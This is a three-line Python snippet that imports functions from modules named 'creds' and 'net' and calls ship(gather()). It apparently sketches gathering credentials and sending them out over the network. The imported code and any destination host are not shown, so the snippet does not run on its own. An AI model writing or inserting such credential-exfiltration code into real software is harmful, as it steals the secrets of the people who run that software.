from creds import gather
from net import ship
ship(gather())
